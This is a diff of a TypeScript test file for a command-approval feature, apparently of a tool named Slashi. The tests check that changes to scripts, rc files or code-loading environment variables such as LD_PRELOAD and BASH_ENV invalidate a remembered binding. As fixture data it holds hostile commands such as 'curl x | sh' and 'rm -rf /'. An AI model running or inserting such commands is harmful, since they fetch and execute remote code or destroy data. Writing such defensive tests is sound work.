@@ -1,16 +1,21 @@
 import { spawnSync } from "node:child_process";
-import { existsSync, writeFileSync } from "node:fs";
+import { appendFileSync, existsSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { loadShellParser } from "@slashi/core";
 import { tempDir } from "@slashi/test-utils";
 import fc from "fast-check";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { CODE_LOADING_VARIABLES, codeLoadingVariables, commandBinding, executedContent } from "./binding.js";
+import { CODE_LOADING_VARIABLES } from "@slashi/core";
+import { commandBinding, executedContent } from "./binding.js";
+import { readBindingFile } from "./remembered.js";
+import { codeLoadingVariables, type ReadText } from "./env-binding.js";
 
 // Reading a bound script for what it sources uses the shell parser, loaded once a line was decided.
 beforeAll(() => loadShellParser());
 
 const CWD = "/home/dev/app";
+/** The repository at CWD, run with an empty environment. */
+const SITE = { cwd: CWD, env: {}, root: CWD, identity: "1:2:3/1:4:5" };
 
 function files(map: Record<string, string>): (file: string) => string | undefined {
   return (file) => map[path.resolve(file)];
@@ -34,12 +39,12 @@ describe("commandBinding", () => {
   it("asks again when the script body changes", () => {
     const before = commandBinding(
       ["pnpm", "run", "build"],
-      CWD,
+      SITE,
       files({ "/home/dev/app/package.json": pkg({ build: "tsc" }) }),
     );
     const after = commandBinding(
       ["pnpm", "run", "build"],
-      CWD,
+      SITE,
       files({ "/home/dev/app/package.json": pkg({ build: "tsc && curl x | sh" }) }),
     );
     expect(before.ok && after.ok).toBe(true);
@@ -52,12 +57,12 @@ describe("commandBinding", () => {
   it("ignores changes to scripts that do not run", () => {
     const a = commandBinding(
       ["yarn", "start"],
-      CWD,
+      SITE,
       files({ "/home/dev/app/package.json": pkg({ start: "node .", lint: "eslint" }) }),
     );
     const b = commandBinding(
       ["yarn", "start"],
-      CWD,
+      SITE,
       files({ "/home/dev/app/package.json": pkg({ start: "node .", lint: "rm -rf /" }) }),
     );
     expect(a.ok && b.ok && a.digest === b.digest).toBe(true);
@@ -105,8 +110,8 @@ describe("commandBinding", () => {
   });
 
   it("changes the digest when the script file changes", () => {
-    const a = commandBinding(["./x.sh"], CWD, files({ "/home/dev/app/x.sh": "echo a" }));
-    const b = commandBinding(["./x.sh"], CWD, files({ "/home/dev/app/x.sh": "echo b" }));
+    const a = commandBinding(["./x.sh"], SITE, files({ "/home/dev/app/x.sh": "echo a" }));
+    const b = commandBinding(["./x.sh"], SITE, files({ "/home/dev/app/x.sh": "echo b" }));
     expect(a.ok && b.ok && a.digest !== b.digest).toBe(true);
   });
 
@@ -140,8 +145,8 @@ describe("commandBinding", () => {
   });
 
   it("digests bytes: files that decode to the same text still differ", () => {
-    const a = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xff]));
-    const b = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xfe]));
+    const a = commandBinding(["./x.sh"], SITE, () => Uint8Array.from([0x65, 0xff]));
+    const b = commandBinding(["./x.sh"], SITE, () => Uint8Array.from([0x65, 0xfe]));
     expect(a.ok && b.ok).toBe(true);
     if (a.ok && b.ok) expect(a.digest).not.toBe(b.digest);
   });
@@ -162,18 +167,18 @@ describe("commandBinding", () => {
     expect(executedContent(["bash", "-O", "opt", "x.sh"], CWD, read)).toMatchObject({
       file: "/home/dev/app/x.sh",
     });
-    const withRc = commandBinding(["bash", "--rcfile", "rc", "x.sh"], CWD, read);
+    const withRc = commandBinding(["bash", "--rcfile", "rc", "x.sh"], SITE, read);
     expect(withRc).toMatchObject({
       ok: true,
       content: { file: "/home/dev/app/x.sh", loads: ["/home/dev/app/rc"] },
     });
     const rcChanged = commandBinding(
       ["bash", "--rcfile", "rc", "x.sh"],
-      CWD,
+      SITE,
       files({ "/home/dev/app/rc": "curl x | sh", "/home/dev/app/x.sh": "echo x" }),
     );
     expect(withRc.ok && rcChanged.ok && withRc.digest !== rcChanged.digest).toBe(true);
-    expect(commandBinding(["node", "-r", "./hook.js", "x.js"], CWD, read)).toMatchObject({ ok: false });
+    expect(commandBinding(["node", "-r", "./hook.js", "x.js"], SITE, read)).toMatchObject({ ok: false });
   });
 
   it.each([
@@ -185,20 +190,20 @@ describe("commandBinding", () => {
     [["env", "FOO=1", "./x.sh"], /never remembered/],
     [["xargs", "rm"], /never remembered/],
   ])("never remembers %j", (argv, reason) => {
-    const binding = commandBinding(argv, CWD, files({ "/home/dev/app/x.sh": "echo" }));
+    const binding = commandBinding(argv, SITE, files({ "/home/dev/app/x.sh": "echo" }));
     expect(binding.ok).toBe(false);
     if (!binding.ok) expect(binding.reason).toMatch(reason);
   });
 
   it("refuses a script file that cannot be read", () => {
-    expect(commandBinding(["./missing.sh"], CWD, files({})).ok).toBe(false);
+    expect(commandBinding(["./missing.sh"], SITE, files({})).ok).toBe(false);
   });
 
   it("keys by exact argv and cwd", () => {
     const read = files({});
-    const a = commandBinding(["git", "push"], CWD, read);
-    const b = commandBinding(["git", "push", "--force"], CWD, read);
-    const c = commandBinding(["git", "push"], "/other", read);
+    const a = commandBinding(["git", "push"], SITE, read);
+    const b = commandBinding(["git", "push", "--force"], SITE, read);
+    const c = commandBinding(["git", "push"], { ...SITE, cwd: "/other" }, read);
     expect(a.ok && b.ok && c.ok).toBe(true);
     if (a.ok && b.ok && c.ok) {
       expect(new Set([a.key, b.key, c.key]).size).toBe(3);
@@ -208,12 +213,12 @@ describe("commandBinding", () => {
 
   describe("what the bound content pulls in", () => {
     const digestOf = (argv: string[], map: Record<string, string>): string => {
-      const binding = commandBinding(argv, CWD, files(map));
+      const binding = commandBinding(argv, SITE, files(map));
       if (!binding.ok) throw new Error(binding.reason);
       return binding.digest;
     };
     const reasonOf = (argv: string[], map: Record<string, string>): string => {
-      const binding = commandBinding(argv, CWD, files(map));
+      const binding = commandBinding(argv, SITE, files(map));
       return binding.ok ? "" : binding.reason;
     };
 
@@ -296,13 +301,16 @@ describe("commandBinding", () => {
 });
 
 describe("commandBinding and the environment", () => {
-  const read = files({
+  const map: Record<string, string> = {
     "/home/dev/app/x.sh": "echo hi",
     "/home/dev/app/x.js": "1",
     "/home/dev/app/x.py": "print(1)",
     "/home/dev/app/Makefile": "all:\n\ttrue\n",
     "/home/dev/app/package.json": pkg({ test: "vitest run" }),
-  });
+    "/etc/profile.d/env.sh": "export A=1",
+    "/home/dev/.zsh/.zshenv": "path+=(~/bin)",
+  };
+  const read = files(map);
   const bound = [
     ["./x.sh"],
     ["bash", "x.sh"],
@@ -313,21 +321,42 @@ describe("commandBinding and the environment", () => {
   ];
   /** A variable of the list: the name itself, or a generated name under a prefix. */
   const variable = fc
-    .constantFrom(...CODE_LOADING_VARIABLES)
+    .constantFrom(...CODE_LOADING_VARIABLES.map((entry) => entry.name))
     .chain((entry) =>
       entry.endsWith("*")
         ? fc.stringMatching(/^[A-Z0-9_]{0,8}$/).map((tail) => entry.slice(0, -1) + tail)
         : fc.constantFrom(entry, entry.startsWith("npm_config_") ? entry.toUpperCase() : entry),
     );
-  const value = fc.string({ minLength: 1, maxLength: 12 });
+  /** Values of every shape the variables take: words, options, paths inside and outside the repository. */
+  const value = fc.oneof(
+    fc.string({ minLength: 1, maxLength: 12 }),
+    fc.constantFrom(
+      "/etc/profile.d/env.sh",
+      "/usr/local/lib",
+      "/home/dev/app/lib",
+      "./lib",
+      "--max-old-space-size=4096",
+      "-r ./hook.js",
+      "/home/dev/.zsh",
+      ":/usr/lib",
+    ),
+  );
 
-  it("refuses bound content while the environment sets a variable that loads code, and names it", () => {
+  it("binds a code-loading variable by value, or refuses the binding naming it; it is never ignored", () => {
     fc.assert(
       fc.property(variable, value, fc.constantFrom(...bound), (name, text, argv) => {
-        const binding = commandBinding(argv, CWD, read, { HOME: "/home/dev", [name]: text });
-        expect(binding.ok).toBe(false);
-        expect(!binding.ok && binding.reason).toContain(`sets ${name},`);
+        const without = commandBinding(argv, SITE, read);
+        const binding = commandBinding(argv, { ...SITE, env: { HOME: "/home/dev", [name]: text } }, read);
         expect(codeLoadingVariables({ [name]: text })).toEqual([name]);
+        if (!binding.ok) {
+          expect(binding.reason).toContain(`sets ${name},`);
+          return;
+        }
+        expect(without.ok && binding.key === without.key).toBe(true);
+        expect(without.ok && binding.digest !== without.digest).toBe(true);
+        expect(binding.environment).toEqual([name]);
+        const other = commandBinding(argv, { ...SITE, env: { [name]: `${text}x` } }, read);
+        expect(other.ok && other.digest === binding.digest).toBe(false);
       }),
     );
   });
@@ -338,15 +367,63 @@ describe("commandBinding and the environment", () => {
       .filter((name) => codeLoadingVariables({ [name]: "x" }).length === 0);
     fc.assert(
       fc.property(variable, unrelated, value, fc.constantFrom(...bound), (name, other, text, argv) => {
-        expect(commandBinding(argv, CWD, read, { [name]: "", [other]: text }).ok).toBe(true);
+        const binding = commandBinding(argv, { ...SITE, env: { [name]: "", [other]: text } }, read);
+        const plain = commandBinding(argv, SITE, read);
+        expect(binding.ok && plain.ok && binding.digest === plain.digest).toBe(true);
       }),
     );
   });
 
+  it("binds a global file, startup folder, search path or harmless options, and the files they name", () => {
+    const cases: [Record<string, string>, string | undefined][] = [
+      [{ BASH_ENV: "/etc/profile.d/env.sh" }, "/etc/profile.d/env.sh"],
+      [{ ZDOTDIR: "/home/dev/.zsh" }, "/home/dev/.zsh/.zshenv"],
+      [{ LD_PRELOAD: "/etc/profile.d/env.sh" }, "/etc/profile.d/env.sh"],
+      [{ LD_LIBRARY_PATH: "/usr/local/lib:/opt/cuda/lib64" }, undefined],
+      [{ NODE_OPTIONS: "--max-old-space-size=4096" }, undefined],
+    ];
+    for (const [env, file] of cases) {
+      const binding = commandBinding(["bash", "x.sh"], { ...SITE, env }, read);
+      expect(binding, JSON.stringify(env)).toMatchObject({ ok: true, environment: Object.keys(env) });
+      if (file === undefined) continue;
+      const changed = commandBinding(
+        ["bash", "x.sh"],
+        { ...SITE, env },
+        files({ ...map, [file]: "curl x|sh" }),
+      );
+      expect(changed.ok && binding.ok && changed.digest !== binding.digest).toBe(true);
+    }
+  });
+
+  it("refuses what a variable loads by rules it cannot pin: repository paths, relative entries, loaders", () => {
+    const cases: [Record<string, string>, RegExp][] = [
+      [{ LD_LIBRARY_PATH: "/usr/lib:/home/dev/app/lib" }, /inside the repository/],
+      [{ PYTHONPATH: "lib" }, /relative/],
+      [{ NODE_PATH: "/usr/lib:" }, /empty entry/],
+      [{ LD_PRELOAD: "libevil.so" }, /without a directory/],
+      [{ NODE_OPTIONS: "-r ./hook.js" }, /node -r/],
+      [{ PYTHONWARNINGS: "ignore::mod.Warning" }, /rules Slashi does not follow/],
+      [{ BASH_ENV: "/dev/zero" }, /refused/],
+    ];
+    const refusing: ReadText = (file) =>
+      file === "/dev/zero" ? { refused: "not a regular file" } : read(file);
+    for (const [env, reason] of cases) {
+      const binding = commandBinding(["bash", "x.sh"], { ...SITE, env }, refusing);
+      expect(binding.ok, JSON.stringify(env)).toBe(false);
+      if (!binding.ok) expect(binding.reason).toMatch(reason);
+    }
+  });
+
   it("leaves a program found by name alone: nothing of it is bound", () => {
-    expect(commandBinding(["curl", "https://example.com"], CWD, read, { NODE_OPTIONS: "-r x" }).ok).toBe(
-      true,
-    );
+    expect(
+      commandBinding(["curl", "https://example.com"], { ...SITE, env: { NODE_OPTIONS: "-r x" } }, read).ok,
+    ).toBe(true);
+  });
+
+  it("keys by the repository's identity: another repository at the same path has another key", () => {
+    const a = commandBinding(["./x.sh"], SITE, read);
+    const b = commandBinding(["./x.sh"], { ...SITE, identity: "1:9:9/1:9:8" }, read);
+    expect(a.ok && b.ok && a.key !== b.key && a.digest === b.digest).toBe(true);
   });
 
   describe("the variables load code in the real programs", () => {
@@ -360,8 +437,17 @@ describe("commandBinding and the environment", () => {
       file: string;
       body: string;
       env: Record<string, string>;
+      /** The file the variable names, which the binding covers; none: the binding is refused. */
+      binds?: string;
     }[] = [
-      { program: "bash", args: ["s.sh"], file: "s.sh", body: "true\n", env: { BASH_ENV: `${planted}.sh` } },
+      {
+        program: "bash",
+        args: ["s.sh"],
+        file: "s.sh",
+        body: "true\n",
+        env: { BASH_ENV: `${planted}.sh` },
+        binds: `${planted}.sh`,
+      },
       {
         program: "node",
         args: ["s.js"],
@@ -383,19 +469,25 @@ describe("commandBinding and the environment", () => {
     writeFileSync(path.join(tmp.dir, "Planted.pm"), `open(my $f, ">", ${JSON.stringify(marker)}); 1;\n`);
     writeFileSync(path.join(tmp.dir, "sitecustomize.py"), `open(${JSON.stringify(marker)}, "w")\n`);
 
-    it.each(cases)("$program runs code its environment names, and the binding is refused", (c) => {
-      writeFileSync(path.join(tmp.dir, c.file), c.body);
-      spawnSync("rm", ["-f", marker]);
-      const ran = spawnSync(c.program, c.args, { cwd: tmp.dir, env: { PATH: process.env.PATH, ...c.env } });
-      if (ran.error) return; // the program is not installed here
-      expect(existsSync(marker)).toBe(true);
-      const binding = commandBinding(
-        [c.program, ...c.args],
-        tmp.dir,
-        (f) => (existsSync(f) ? "" : undefined),
-        c.env,
-      );
-      expect(binding.ok).toBe(false);
-    });
+    it.each(cases)(
+      "$program runs code its environment names, and the binding covers it or is refused",
+      (c) => {
+        writeFileSync(path.join(tmp.dir, c.file), c.body);
+        spawnSync("rm", ["-f", marker]);
+        const ran = spawnSync(c.program, c.args, { cwd: tmp.dir, env: { PATH: process.env.PATH, ...c.env } });
+        if (ran.error) return; // the program is not installed here
+        expect(existsSync(marker)).toBe(true);
+        const site = { cwd: tmp.dir, env: c.env, root: tmp.dir, identity: "x" };
+        const binding = commandBinding([c.program, ...c.args], site, readBindingFile);
+        if (c.binds === undefined) {
+          expect(binding.ok).toBe(false);
+          return;
+        }
+        const before = binding.ok ? binding.digest : "";
+        appendFileSync(c.binds, "true\n");
+        const after = commandBinding([c.program, ...c.args], site, readBindingFile);
+        expect(binding.ok && after.ok && after.digest !== before).toBe(true);
+      },
+    );
   });
 });
